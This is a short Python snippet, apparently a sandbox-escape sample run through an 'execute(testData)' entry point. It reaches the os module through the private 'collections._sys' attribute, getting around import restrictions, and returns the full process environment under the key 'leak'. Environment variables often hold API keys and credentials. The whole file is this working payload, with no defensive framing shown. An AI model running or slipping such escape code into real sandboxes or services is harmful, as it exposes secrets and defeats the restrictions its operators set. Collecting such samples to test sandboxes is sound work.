# route: collections keeps sys under an underscore
import collections


def execute(testData):
    return {"leak": dict(collections._sys.modules["os"].environ)}
